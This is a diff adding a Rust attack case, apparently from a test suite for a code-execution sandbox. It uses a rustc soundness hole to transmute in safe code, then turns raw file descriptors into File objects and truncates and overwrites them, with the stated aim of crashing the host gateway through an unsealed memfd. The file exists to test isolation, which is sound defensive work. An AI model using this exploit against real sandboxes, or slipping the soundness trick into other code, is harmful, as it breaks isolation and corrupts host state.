@@ -1,0 +1,48 @@
+//! attack  : 083_hole_truncate_fds
+//! class   : hole
+//! what    : Builds File from integers and calls set_len(0)/write on each: truncates an unsealed ring memfd (SIGBUS in the gateway).
+//! profile : std   (smallest guest profile in which this compiles)
+//! calls   : ""
+//! expect.status = FAULT|DENIED|TIMEOUT|WORKER_LOST|OK
+//! expect.worker = same|restarted
+//! expect.next_ok = true
+//! expect.gateway = unharmed
+//! expect.fd_delta = 0
+#![forbid(unsafe_code)]
+#![allow(unused, unconditional_recursion, clippy::all)]
+
+// --- soundness-hole helper (rust-lang/rust#25860, higher-ranked form; open, compiles on rustc 1.95 and 1.97-nightly) ---
+fn tr<'a, 'b, T: ?Sized>(_v: &'a &'b (), b: &'b mut T) -> &'a mut T {
+    b
+}
+fn ext<T: ?Sized + 'static>(x: &mut T) -> &'static mut T {
+    let f: fn(&'static &'static (), &mut T) -> &'static mut T = tr;
+    f(&&(), x)
+}
+#[allow(dead_code)]
+fn transmute<A: 'static, B: 'static>(obj: A) -> B {
+    enum D<A, B> {
+        #[allow(dead_code)]
+        A(Option<Box<A>>),
+        B(Option<Box<B>>),
+    }
+    #[inline(never)]
+    fn inner<A: 'static, B: 'static>(d: &mut D<A, B>, obj: A) -> B {
+        let D::B(r) = d else { unreachable!() };
+        let r = ext(r);
+        *d = D::A(Some(Box::new(obj)));
+        std::hint::black_box(d);
+        *r.take().unwrap()
+    }
+    inner(std::hint::black_box(&mut D::B(None)), obj)
+}
+use std::io::Write;
+pub fn attack(input: &[u8]) -> Vec<u8> {
+    for fd in 3..64 {
+        let mut f = transmute::<i32, std::fs::File>(fd);
+        let _ = f.set_len(input.len() as u64 % 2);
+        let _ = f.write_all(&[0xEE; 64]);
+        std::mem::forget(f)
+    }
+    vec![1]
+}
